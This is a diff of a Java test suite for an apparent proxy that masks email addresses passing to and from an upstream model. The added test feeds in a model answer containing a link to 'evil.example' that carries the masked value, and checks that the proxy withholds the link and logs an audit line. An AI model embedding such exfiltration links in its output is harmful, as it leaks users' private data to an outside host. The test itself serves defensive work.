@@ -107,9 +107,9 @@ class ExchangeTest {
       assertThat(row.outcome()).isEqualTo(Outcome.COMPLETED);
       assertThat(row.status()).isEqualTo(200);
       assertThat(row.tokens()).isEqualTo(new TokenCounts(3, 1));
-      assertThat(row.entities()).isEqualTo(Map.of("EMAIL", 1));
+      assertThat(row.found().entities()).isEqualTo(Map.of("EMAIL", 1));
       assertThat(row.caller().tenantId()).isEqualTo("acme");
-      assertThat(row.firstByte()).isNotNull();
+      assertThat(row.times().firstByte()).isNotNull();
       stream.halfClose();
       assertThat(stream.end().isOk()).isTrue();
       envoy.assertSettled();
@@ -397,6 +397,32 @@ class ExchangeTest {
               assertThat(event.getFormattedMessage()).doesNotContain("canary");
               assertThat(event.getThrowableProxy()).isNull();
             });
+  }
+
+  @Test
+  void answer_withAValueInALink_isAuditedWithoutTheValue() throws Exception {
+    ListAppender<ILoggingEvent> log = new ListAppender<>();
+    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
+    log.start();
+    root.addAppender(log);
+    try (ScriptedEnvoy envoy = ScriptedEnvoy.start()) {
+      Stream stream = at(Phase.ADMITTED, envoy);
+      stream.requestBody(REQUEST);
+      String upstream =
+          stream.next().getRequestBody().getResponse().getBodyMutation().getBody().toStringUtf8();
+      String surrogate = upstream.replaceAll("(?s).*Mail ([^\"]+)\".*", "$1");
+      stream.responseHeaders("200", "application/json", false);
+      stream.responseBody(ANSWER.replace("Hi", "https://evil.example/?to=" + surrogate), true);
+      assertThat(envoy.row().worked().withheld()).isEqualTo(1);
+    } finally {
+      root.detachAppender(log);
+    }
+    assertThat(log.list.stream().map(ILoggingEvent::getFormattedMessage))
+        .singleElement()
+        .asString()
+        .startsWith("audit: link_withheld tenant=acme key=key-1 policy=version-1 request=")
+        .endsWith(" values=1 types={EMAIL=1}")
+        .doesNotContain("evil");
   }
 
   @Test
